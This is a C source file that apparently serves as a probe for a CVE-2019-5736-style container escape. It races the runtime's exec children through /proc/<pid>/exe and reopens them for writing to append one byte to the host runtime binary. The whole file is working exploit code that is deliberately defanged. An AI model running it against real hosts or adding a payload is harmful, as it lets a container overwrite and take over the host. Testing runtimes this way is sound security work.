/* CVE-2019-5736 class attack on the runtime binary, run inside a container.
 *
 *   proc_exe_attack once          try every other process's /proc/<pid>/exe once
 *   proc_exe_attack race SECONDS  keep scanning /proc for new processes (the runtime's exec
 *                                 children), hold an O_PATH descriptor of each one's exe, and
 *                                 keep trying to reopen each for writing and overwrite it
 *
 * Prints one line per finding:
 *   OPENED <pid> <dev> <ino>   an exe was opened (O_PATH)
 *   DENIED <pid> <errno>       opening it was refused
 *   WROTE <dev> <ino>          an exe was reopened for writing and a byte written
 * and at the end "DONE <n opened> <n wrote>". Static, libc only.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXH 4096
static int held_fd[MAXH];
static dev_t held_dev[MAXH];
static ino_t held_ino[MAXH];
static int held_done[MAXH];
static int nheld, nwrote;
static char seen[1 << 16];

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void try_pid(int pid, int report_denied) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fd = open(p, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        if (report_denied && errno != ENOENT)
            printf("DENIED %d %d\n", pid, errno);
        return;
    }
    struct stat st;
    if (fstat(fd, &st) != 0) { close(fd); return; }
    for (int i = 0; i < nheld; i++)
        if (held_dev[i] == st.st_dev && held_ino[i] == st.st_ino) { close(fd); return; }
    if (nheld == MAXH) { close(fd); return; }
    printf("OPENED %d %lu %lu\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
    fflush(stdout);
    held_fd[nheld] = fd; held_dev[nheld] = st.st_dev; held_ino[nheld] = st.st_ino;
    nheld++;
}

static void try_write(void) {
    char p[64];
    for (int i = 0; i < nheld; i++) {
        if (held_done[i]) continue;
        snprintf(p, sizeof p, "/proc/self/fd/%d", held_fd[i]);
        int w = open(p, O_WRONLY | O_CLOEXEC);
        if (w < 0) continue; /* ETXTBSY while it runs, EROFS/EACCES/EPERM when it holds */
        /* A real attacker writes a payload; one byte at the end is proof enough and leaves the
         * ELF header alone. */
        if (pwrite(w, "!", 1, lseek(w, 0, SEEK_END)) == 1) {
            printf("WROTE %lu %lu\n", (unsigned long)held_dev[i], (unsigned long)held_ino[i]);
            fflush(stdout);
            nwrote++;
            held_done[i] = 1;
        }
        close(w);
    }
}

static void scan(int report_denied) {
    DIR *d = opendir("/proc");
    if (!d) { perror("opendir /proc"); exit(2); }
    struct dirent *e;
    int self = getpid();
    while ((e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == self) continue;
        if (!report_denied && pid < (int)sizeof seen && seen[pid]) continue;
        if (pid < (int)sizeof seen) seen[pid] = 1;
        try_pid(pid, report_denied);
    }
    closedir(d);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 2 && strcmp(argv[1], "once") == 0) {
        scan(1);
        try_write();
    } else if (argc >= 3 && strcmp(argv[1], "race") == 0) {
        /* Pids in a pid namespace are handed out in order: spin on the next few, so that a
         * process the runtime clones in is caught within microseconds of existing; a full scan
         * now and then moves the window on. */
        double end = now() + atof(argv[2]);
        unsigned long n = 0;
        int top = 1;
        while (now() < end) {
            if (n++ % 256 == 0) {
                memset(seen, 0, sizeof seen);
                scan(0);
                for (int pid = 1; pid < (int)sizeof seen; pid++)
                    if (seen[pid]) top = pid;
                try_write();
            }
            for (int pid = top + 1; pid <= top + 8; pid++)
                try_pid(pid, 0);
        }
        /* The runtime has exited by now: its text is no longer busy. */
        try_write();
    } else {
        fprintf(stderr, "usage: %s once | race SECONDS\n", argv[0]);
        return 2;
    }
    printf("DONE %d %d\n", nheld, nwrote);
    return 0;
}
